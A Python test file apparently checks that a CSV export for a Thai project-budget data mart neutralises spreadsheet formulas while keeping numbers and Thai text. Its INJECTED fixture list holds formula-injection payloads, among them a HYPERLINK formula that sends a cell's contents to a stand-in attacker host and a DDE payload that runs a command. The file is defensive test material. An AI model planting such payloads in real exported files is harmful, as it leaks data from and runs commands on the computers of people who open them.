import csv
import json

import duckdb

from serving.csv_export import export_csv
from serving.formulas import neutralise_formula
from serving.publication import PublishedPaths

INJECTED = [
    '=HYPERLINK("http://attacker.example/?"&A1,"คลิก")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_a_spreadsheet_would_run_is_written_as_text():
    for text in INJECTED:
        assert neutralise_formula(text) == "'" + text
    for text in ["ฝายชะลอน้ำ", "1 = 1", "a-b", "", "'quoted"]:
        assert neutralise_formula(text) == text


def publication(folder, rows) -> PublishedPaths:
    """A publication of one mart, as serving.publication writes it (the file, the manifest)."""
    paths = PublishedPaths(folder)
    folder.mkdir()
    with duckdb.connect(str(paths.database)) as connection:
        connection.execute(
            "create table mart_projects (project_name varchar, budget decimal(18,2), balance "
            "double, fiscal_year integer)"
        )
        connection.executemany("insert into mart_projects values (?, ?, ?, ?)", rows)
    tables = {"mart_projects": {"rows": len(rows)}}
    paths.manifest.write_text(json.dumps({"tables": tables}), encoding="utf-8")
    return paths


def test_csv_export_neutralises_formulas_and_keeps_numbers_and_thai_text(tmp_path):
    rows = [(text, 100.5, -20.0, 2564) for text in INJECTED] + [("ฝาย", None, -5.25, 2565)]
    paths = publication(tmp_path / "published", rows)

    written = export_csv(paths, tmp_path / "csv")

    assert written == {"mart_projects": len(rows)}
    raw = (tmp_path / "csv" / "mart_projects.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads the Thai text as UTF-8
    with (tmp_path / "csv" / "mart_projects.csv").open(encoding="utf-8-sig", newline="") as f:
        header, *cells = list(csv.reader(f))
    assert header == ["project_name", "budget", "balance", "fiscal_year"]
    assert [row[0] for row in cells] == ["'" + text for text in INJECTED] + ["ฝาย"]
    assert cells[0][1:] == ["100.50", "-20.0", "2564"]  # numbers stay numbers, signs and all
    assert cells[-1][1:] == ["", "-5.25", "2565"]
